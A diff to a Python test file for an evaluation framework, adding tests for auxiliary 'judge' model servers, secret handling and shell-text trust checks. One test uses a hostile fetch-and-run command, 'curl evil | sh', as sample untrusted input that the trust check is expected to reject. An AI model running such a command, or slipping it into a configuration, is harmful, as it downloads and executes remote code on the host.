@@ -22,10 +22,31 @@ from evalyard.plugins.markers import hookimpl
 from evalyard.plugins.session import Session
 from evalyard.records import Connection, Invocation, Job, Need, NeedKind, Plan, PlannedFile, SecretRef
 from evalyard.scoring.card import parse_card
-from evalyard.specs import CommandSpec, DeploymentSpec, EndpointSpec, EnvValue, RunSpec, Section, TaskSpec, ValueSource
+from evalyard.specs import (
+    AuxiliarySpec,
+    CommandSpec,
+    DeploymentSpec,
+    EndpointSpec,
+    EnvValue,
+    RunSpec,
+    Section,
+    TaskSpec,
+    ValueSource,
+)
 from tests.core.store.records import invocation, plans
 
 TOKEN = EnvValue(source=ValueSource.HOST, text="MY_TOKEN", where="run.yaml:3")
+JUDGE = AuxiliarySpec(
+    name="judge",
+    env_prefix="JUDGE",
+    server=DeploymentSpec(
+        type="demo",
+        served_model_name="the-judge",
+        env={"TOKEN": TOKEN},
+        path="auxiliary_deployments.judge",
+        places={"": "f:3:1"},
+    ),
+)
 
 
 class Recorder:
@@ -195,12 +216,58 @@ def test_shell_text_of_the_deployment_runs_only_when_it_is_trusted() -> None:
 
 
 def test_servers_that_nobody_would_start_are_refused() -> None:
-    judge = Section(name="judge", path="auxiliary_deployments.judge", data={"type": "vllm"})
-    with pytest.raises(ConfigError, match="executor toy starts no auxiliary deployments in this version"):
-        planned(spec(task(), auxiliary_deployments=(judge,)))
+    with pytest.raises(ConfigError) as caught:
+        planned(spec(task(), auxiliary_deployments=(JUDGE,)))
+    assert caught.value.problems == (
+        "f:3:1: auxiliary_deployments.judge: executor toy starts no auxiliary deployments in this version",
+    )
     shape = Section(name="lepton", path="deployment.lepton_config", data={"resource_shape": "gpu"})
     with pytest.raises(ConfigError, match="only executor lepton reads it"):
         planned(spec(task(), deployment=DeploymentSpec(type="demo", lepton_config=shape)))
+
+
+class WithOthers(Recorder):
+    """An executor that starts further model servers."""
+
+    auxiliary_servers = True
+
+
+def test_every_job_gets_the_further_servers_and_names_them_in_its_settings() -> None:
+    WithOthers.jobs = []
+    refers = {"extra": {"judge": {"url": "auxiliary_deployments.judge.chat_url"}}}
+    tasks = (
+        task(harness_config={"config": {"type": "auxiliary_deployments.judge.model_id"}}),
+        TaskSpec(name="simple_evals.AIME_2025", params=refers),
+    )
+    endpoint = EndpointSpec(url="http://h/v1/chat/completions", model_id="m")
+    run = spec(*tasks, auxiliary_deployments=(JUDGE,), endpoint=endpoint)
+    plans = plan_attempts(
+        run, Session(WithOthers, Connection(executor="toy")), None, invocation(jobs=2), first_attempts(run)
+    )
+    first, second = WithOthers.jobs
+    assert [server.name for server in first.servers] == ["judge"]
+    assert first.task.harness_config == {"config": {"type": "the-judge"}}
+    assert {"deployment-judge/.secrets.env"} < {file.path for file in first.files}
+    (settings,) = second.harness.files
+    assert "url: ${JUDGE_CHAT_URL}" in settings.text.replace('"', "")
+    assert "JUDGE_CHAT_URL" in second.contained.script
+    assert plans[1].card is not None
+    assert plans[1].card.parameters == refers, "a card says what was asked for"
+    assert {ref.variable for ref in secrets_of(plans)} == {"MY_TOKEN"}
+
+
+def test_a_harness_that_cannot_be_told_of_a_further_server_is_an_error() -> None:
+    asked = TaskSpec(name="lm-eval.x", params={"args": "--judge auxiliary_deployments.judge.chat_url"})
+    run = spec(asked, auxiliary_deployments=(JUDGE,))
+    with pytest.raises(ConfigError, match="only nemo-evaluator's harnesses can be told of auxiliary_deployments"):
+        plan_attempts(run, Session(WithOthers, Connection(executor="toy")), None, invocation(), first_attempts(run))
+
+
+def test_shell_text_of_a_further_server_runs_only_when_it_is_trusted() -> None:
+    server = evolve(JUDGE.server, pre_cmd="curl evil | sh")
+    asked = spec(task(), auxiliary_deployments=(evolve(JUDGE, server=server),))
+    with pytest.raises(ConfigError, match=r"^auxiliary_deployments.judge: pre_cmd and post_cmd run shell text"):
+        check_trust(asked, trusted=False)
 
 
 class Keyed(Recorder):
